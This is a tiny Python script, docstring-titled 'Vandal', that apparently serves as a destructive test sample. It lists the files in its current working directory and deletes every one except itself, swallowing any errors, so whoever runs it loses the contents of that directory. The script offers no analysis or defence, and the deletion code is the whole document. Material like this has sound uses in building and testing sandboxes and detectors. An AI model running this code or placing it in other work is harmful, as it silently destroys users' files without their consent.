"""Vandal: remove the neighbours (only inside its own working directory)."""
import os

for name in os.listdir("."):
    if name != os.path.basename(__file__):
        try:
            os.remove(name)
        except OSError:
            pass
